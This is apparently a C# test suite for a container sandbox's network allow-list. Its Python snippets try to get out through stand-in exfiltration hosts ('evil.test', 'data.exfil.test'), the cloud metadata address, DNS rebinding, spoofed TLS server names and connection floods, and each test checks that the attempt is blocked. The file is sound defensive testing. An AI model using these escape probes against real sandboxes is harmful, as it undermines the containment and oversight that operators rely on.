using SkillHost.Docker.Tests.Calls;
using SkillHost.Invocations;

namespace SkillHost.Docker.Tests.Egress;

/// <summary>Tries to get out past an allow-list. Each has a positive control beside it: what is allowed is reached.</summary>
public sealed class AttackTests(EgressFixture fixture) : EgressTest(fixture)
{
    private const string Tls = """
        import ssl
        def greet(name, port=20443, host='tls.test'):
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            try:
                with connect(host, port) as s, context.wrap_socket(s, server_hostname=name) as t:
                    t.sendall(b'secret')
                    return t.recv(100).decode()
            except OSError as e:
                return 'denied'
        """;

    [Fact]
    public async Task Connect_NamesNotOnTheList_NeitherResolveNorAreAskedOutside()
    {
        InvocationResult result = await RunAsync(
            "print([attempt(n, 20080) for n in ('evil.test', 'good.test.evil.test', 'evilgood.test', 'data.exfil.test')])\n"
            + "print(attempt('good.test', 20080))");

        Assert.Equal("['gaierror', 'gaierror', 'gaierror', 'gaierror']\nhi\n", result.Stdout);
        Assert.Contains("evil.test: it is not on the allow-list", result.Network.Denied);
        Assert.Contains("data.exfil.test: it is not on the allow-list", result.Network.Denied);
        Assert.False(Fixture.Names.Asked.ContainsKey("evil.test"));
        Assert.Equal(0, Fixture.Forbidden.Taken);
    }

    [Fact]
    public async Task Connect_OtherPortsAndAddresses_NeverLeaveTheContainer()
    {
        string[] addresses =
            [Fixture.Unnamed.ToString(), Fixture.Address.ToString(), "169.254.169.254", "172.17.0.1", "192.0.2.2", "8.8.8.8", "::1"];

        InvocationResult result = await RunAsync(
            $"print(all(attempt(a, 20080).endswith('Error') for a in {Python(addresses)}))\n"
            + "print([attempt('good.test', p) for p in (22, 80, 443, 20082)], attempt('other.test', 20081), attempt('good.test', 20080))");

        const string refused = "ConnectionRefusedError";
        Assert.Equal($"True\n['{refused}', '{refused}', '{refused}', '{refused}'] {refused} hi\n", result.Stdout);
        Assert.Equal(["good.test:20080"], result.Network.Reached);
        Assert.Equal(0, Fixture.Forbidden.Taken);
    }

    [Theory]
    [InlineData("private.test", 20080, "it has an address that is not public and that the operator has not named")]
    [InlineData("mixed.test", 20080, "it has an address that is not public and that the operator has not named")]
    [InlineData("metadata.test", 80, "it has an address that is not public and that the operator has not named")]
    [InlineData("missing.test", 20080, "its name does not resolve")]
    public async Task Connect_AllowedNameAtAForbiddenAddress_IsReset(string host, int port, string reason)
    {
        InvocationResult result = await RunAsync($"print(attempt('{host}', {port}), attempt('good.test', 20080))");

        Assert.Equal("ConnectionResetError hi\n", result.Stdout);
        Assert.Equal([$"{host}:{port}: {reason}"], result.Network.Denied);
        Assert.Equal(0, Fixture.Forbidden.Taken);
    }

    [Fact]
    public async Task Rebind_TheNameBetweenTwoConnections_TheJudgedAddressHolds()
    {
        int asked = 0;
        Fixture.Names.Set("rebind.test", () => [Interlocked.Increment(ref asked) == 1 ? Fixture.Address : Fixture.Unnamed]);

        InvocationResult first = await RunAsync("print([attempt('rebind.test', 20080) for _ in range(3)])");
        InvocationResult second = await RunAsync("print(attempt('rebind.test', 20080))");

        Assert.Equal("['hi', 'hi', 'hi']\n", first.Stdout);
        Assert.Equal("ConnectionResetError\n", second.Stdout);
        Assert.Equal((2, 0), (asked, Fixture.Forbidden.Taken));
    }

    [Fact]
    public async Task SpeakTls_WithWhicheverServerName_OnlyTheEntrysOwnPasses()
    {
        InvocationResult result = await RunAsync(
            Tls + "\nprint([greet(n) for n in ('tls.test', 'TLS.test', 'evil.test', None, 'sub.tls.test', 'tls.test.evil.test')])");

        Assert.Equal("['secret', 'secret', 'denied', 'denied', 'denied', 'denied']\n", result.Stdout);
        Assert.Contains("tls.test:20443: the TLS greeting names another server, evil.test", result.Network.Denied);
        Assert.Contains("tls.test:20443: the TLS greeting names no server", result.Network.Denied);
        Assert.Equal(["tls.test:20443"], result.Network.Reached);
    }

    [Fact]
    public async Task SpeakPlainly_WhereTlsIsWanted_NothingGoesOut()
    {
        int before = Fixture.Secure.Taken;

        InvocationResult result = await RunAsync("""
            print(attempt('tls.test', 20443, b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'))
            with connect('tls.test', 20443) as s:
                s.sendall(bytes([22, 3, 1, 2, 0, 1]))
                s.settimeout(8)
                try:
                    print('end' if not s.recv(1) else 'more')
                except ConnectionResetError:
                    print('reset')
            """);

        Assert.Equal("ConnectionResetError\nreset\n", result.Stdout);
        Assert.Equal(
            [
                "tls.test:20443: only TLS is let through on this port, and something else was sent",
                "tls.test:20443: the TLS greeting did not come within 5 s",
            ],
            result.Network.Denied);
        Assert.Equal(before, Fixture.Secure.Taken);
    }

    [Fact]
    public async Task SpeakPlainly_WhereTheOperatorTurnedTheCheckOff_GoesThrough() =>
        Assert.Equal("plain\n", (await RunAsync("print(attempt('untaught.test', 20443, b'plain'))")).Stdout);

    [Fact]
    public async Task Connect_AThousandTimesAtOnce_IsBoundedAndEndsWithTheCall()
    {
        InvocationResult result = await RunAsync("""
            import resource
            held, alive = [], 0
            for _ in range(1000):
                s = socket.socket()
                s.setblocking(False)
                s.connect_ex((socket.gethostbyname('good.test') if not held else address, 20080))
                address = s.getpeername()[0] if not held else address
                held.append(s)
            import time
            time.sleep(2)
            for s in held:
                try:
                    s.send(b'x')
                    alive += 1
                except OSError:
                    pass
            time.sleep(1)
            answered = 0
            for s in held:
                try:
                    answered += len(s.recv(1))
                except OSError:
                    pass
            print(0 < answered <= 32)
            """);

        Assert.Equal("True\n", result.Stdout);
        Assert.Contains("good.test:20080: 32 connections at once are all that one call may have", result.Network.Denied);
        Assert.Equal("hi\n", (await RunAsync("print(attempt('good.test', 20080))")).Stdout);
    }

    [Fact]
    public async Task Send_MoreBytesThanACallMay_IsCut()
    {
        RealHost host = await Fixture.AnotherAsync(("Egress:Bytes", "64k"));

        InvocationResult result = await RunAsync(
            """
            def until_cut(count):
                try:
                    with connect('good.test', 20080) as s:
                        s.sendall(b'x' * count)
                        while s.recv(65536):
                            pass
                        return 'end'
                except OSError as e:
                    return type(e).__name__
            print(len(attempt('good.test', 20080, b'x' * 1000)), until_cut(100000))
            print(until_cut(70000))
            """,
            host: host);

        Assert.Equal("1000 ConnectionResetError\nConnectionResetError\n", result.Stdout);
        Assert.Equal(["good.test:20080: 65536 bytes are all that one call may send and receive"], result.Network.Denied);
        Assert.InRange(result.Network.BytesSent + result.Network.BytesReceived, 2000, 64 << 10);
    }

    [Fact]
    public async Task Connect_MoreOftenOrLongerThanACallMay_IsDenied()
    {
        RealHost host = await Fixture.AnotherAsync(("Egress:ConnectionsPerCall", "3"), ("Egress:ConnectionTime", "1s"));

        InvocationResult result = await RunAsync(
            """
            with connect('good.test', 20080) as s:
                s.sendall(b'early')
                print(s.recv(9).decode())
                try:
                    print(s.recv(9) or 'end')
                except ConnectionResetError:
                    print('cut')
            print([attempt('good.test', 20080) for _ in range(3)])
            """,
            host: host);

        Assert.Equal("early\ncut\n['hi', 'hi', 'ConnectionResetError']\n", result.Stdout);
        Assert.Equal(
            [
                "good.test:20080: 1 s are all that one connection may last",
                "good.test:20080: 3 connections are all that one call may make",
            ],
            result.Network.Denied);
    }

    private static string Python(IEnumerable<string> texts) => $"[{string.Join(", ", texts.Select(text => $"'{text}'"))}]";
}
